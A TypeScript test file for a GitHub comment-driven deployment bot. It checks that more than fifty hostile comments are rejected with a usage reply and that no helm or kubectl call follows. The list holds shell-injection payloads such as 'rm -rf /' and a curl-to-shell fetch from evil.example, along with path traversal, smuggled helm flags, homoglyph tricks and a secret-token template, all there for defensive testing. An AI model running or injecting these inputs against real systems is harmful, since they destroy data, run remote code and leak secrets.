import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { run } from "../src/run";
import { commentPayload, createWorld, fakeGitHub, resetNock, type CanaryWorld } from "./world";

/** Comments that must never deploy, lease or spawn anything: each gets 👀, 👎 and a usage reply. */
const HOSTILE: string[] = [
  "/lotusbot upgrade lotus-0; rm -rf /",
  "/lotusbot upgrade lotus-0 $(curl evil.example | sh)",
  "/lotusbot upgrade lotus-0 `id`",
  "/lotusbot upgrade lotus-0 && echo pwned",
  "/lotusbot upgrade lotus-0 | tee /etc/passwd",
  "/lotusbot upgrade lotus-0 > /tmp/x",
  "/lotusbot upgrade lotus-0 'main'",
  '/lotusbot upgrade lotus-0 "main"',
  "/lotusbot upgrade ../../etc/passwd",
  "/lotusbot upgrade lotus-0/../lotus-1",
  "/lotusbot upgrade ..",
  "/lotusbot delete ../lotus-0",
  "/lotusbot upgrade lotus-0 --post-renderer /tmp/evil",
  "/lotusbot upgrade lotus-0 --post-renderer=/tmp/evil",
  "/lotusbot upgrade lotus-0 --set image.tag=evil",
  "/lotusbot upgrade lotus-0 --set-string x=y",
  "/lotusbot upgrade lotus-0 --kubeconfig /tmp/k",
  "/lotusbot upgrade lotus-0 -f values.yaml",
  "/lotusbot upgrade lotus-0 --values=/etc/shadow",
  "/lotusbot upgrade lotus-0 --force --force",
  "/lotusbot upgrade lotus-0 -- --post-renderer x",
  "/lotusbot upgrade\nlotus-0 main",
  "/lotusbot\nupgrade lotus-0",
  "/lotusbot upgrade lotus-0\rmain",
  "/lotusbot upgrade lotus-0\u2028main",
  "/lotusbot upgrade lotus-0\tmain",
  "/lotusbot upgrade lotus-0\u0000",
  "/lotusbot upgrade lotus-0 \u001b[31mred",
  "/lotusbot upgrade lotus\u20110",
  "/lotusbot upgrade lotus\u20100",
  "/lotusbot upgrade l\u043etus-0",
  "/lotusbot upgrade lotus-0\u200b",
  "/lotusbot\u00a0upgrade lotus-0",
  "/lotusbot upgrade \uff4cotus-0",
  "/lotusbot upgr\u0430de lotus-0",
  "/lotusbot upgrade lotus-0 main\u202e",
  `/lotusbot ${"a".repeat(10 * 1024)}`,
  `/lotusbot upgrade lotus-0\n${"x".repeat(10 * 1024)}`,
  `/lotusbot upgrade lotus-0 ${"a".repeat(300)}`,
  "/lotusbot upgrade lotus-9",
  "/lotusbot upgrade Lotus-0",
  "/lotusbot upgrade lotus-0 -rf",
  "/lotusbot upgrade lotus-0 main extra words here",
  "/lotusbot deploy lotus-0",
  "/lotusbot",
  "/lotusbot --force",
  "/lotusbot upgrade",
  "/lotusbot upgrade lotus-0 main@{1}",
  "/lotusbot upgrade lotus-0 main~1",
  "/lotusbot upgrade lotus-0 main^",
  "/lotusbot upgrade lotus-0 HEAD:refs/heads/x",
  "/lotusbot upgrade lotus-0 feature/../../x",
  "/lotusbot upgrade lotus-0 .hidden",
  "/lotusbot upgrade lotus-0 refs/heads/x.lock",
  "/lotusbot upgrade lotus-0 {{.Values}}",
  "/lotusbot upgrade lotus-0 ${{ secrets.GITHUB_TOKEN }}",
  "/lotusbot upgrade lotus-0 %0aecho",
  "/lotusbot upgrade lotus-0 image.tag=x,foo=bar",
  "/lotusbot release lotus-0 someone-else",
  "/lotusbot status now",
  "/lotusbot upgrade lotus-0 lotus-1",
  "/lotusbotupgrade lotus-0",
  "/lotusbot upgrade lotus-0 main \\",
  "/lotusbot upgrade lotus-0 *",
  "/lotusbot upgrade lotus-0 ~/x",
  "/lotusbot upgrade lotus-0 <script>",
  "/lotusbot upgrade lotus-0 pull/7/head",
];

describe("hostile comments", () => {
  let world: CanaryWorld;
  beforeAll(() => {
    resetNock();
    world = createWorld();
  });
  afterAll(() => world.close());

  it(`has at least 50 entries (${HOSTILE.length})`, () => {
    expect(HOSTILE.length).toBeGreaterThanOrEqual(50);
  });

  it("every one gets a usage reply; nothing is spawned or leased", async () => {
    const github = fakeGitHub({ permission: "admin" });
    const config = world.config();
    for (const [index, body] of HOSTILE.entries()) {
      const result = await run(config, world.deps({ payload: commentPayload(body) }));
      expect(result.status, `comment ${index}: ${JSON.stringify(body.slice(0, 80))}`).toBe("usage");
      expect(github.replies[index], `reply ${index}`).toContain("Usage");
      // The reply never echoes the hostile line back into the conversation.
      for (const fragment of ["$(", "`id`", "rm -rf", "\u202e", "secrets.GITHUB_TOKEN"]) {
        if (body.includes(fragment)) expect(github.replies[index]).not.toContain(fragment);
      }
    }
    expect(github.replies).toHaveLength(HOSTILE.length);
    expect(github.reactions.filter((r) => r === "eyes")).toHaveLength(HOSTILE.length);
    expect(github.reactions.filter((r) => r === "-1")).toHaveLength(HOSTILE.length);
    expect(github.pullCalls).toBe(0);
    expect(world.fakes.calls("helm")).toEqual([]);
    expect(world.fakes.calls("kubectl")).toEqual([]);
    expect(world.leaseFiles()).toEqual([]);
  });
});
